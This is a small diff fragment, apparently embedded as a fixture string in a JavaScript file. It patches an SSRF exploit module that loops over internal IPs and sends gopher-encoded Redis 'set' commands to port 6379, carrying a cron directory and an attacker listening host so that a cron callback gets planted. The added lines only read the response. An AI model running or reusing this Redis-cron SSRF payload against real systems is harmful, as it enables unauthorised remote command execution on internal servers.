@@ -31,7 +31,10 @@ class exploit():
     def __init__(self, requester, args):
         cron = input("Server Cron (e.g:/var/spool/cron/):")
         for ip in gen_ip_list("127.0.0.1", args.level):
-            requester.do_request(args.param, wrapper_gopher("set%20x%20" + cron + "%20" + args.lhost, ip, "6379"))
+            r = requester.do_request(args.param, wrapper_gopher("set%20x%20" + cron + "%20" + args.lhost, ip, "6379"))
+            # What its Docker and Consul modules read of a response before the next request.
+            if r.json and r.text == "":
+                r.json()
 `,
 );
 writeFileSync(
